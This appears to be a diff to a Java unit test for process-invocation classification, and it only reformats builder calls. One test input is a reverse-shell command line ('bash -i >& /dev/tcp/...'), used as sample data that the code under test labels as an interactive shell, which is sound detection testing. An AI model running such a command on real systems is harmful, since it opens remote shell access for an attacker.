@@ -26,7 +26,10 @@ final class InvocationTest {
         "bash -i >& /dev/tcp/h/1, INTERACTIVE"
     })
     void of_argumentVector_saysWhereCommandsComeFrom(String line, Invocation expected) {
-        Process shell = Process.builder().executable("/bin/x").arguments(line.split(" ")).build();
+        Process shell = Process.builder()
+                .executable("/bin/x")
+                .arguments(line.split(" "))
+                .build();
         assertThat(Invocation.of(shell)).isEqualTo(expected);
     }
 
@@ -40,6 +43,7 @@ final class InvocationTest {
         "/usr/bin/sh, SHELL, true"
     })
     void is_nameWithVersion_hasTheRoleOfTheName(String executable, Role role, boolean expected) {
-        assertThat(Roles.is(Process.builder().executable(executable).build(), role)).isEqualTo(expected);
+        assertThat(Roles.is(Process.builder().executable(executable).build(), role))
+                .isEqualTo(expected);
     }
 }
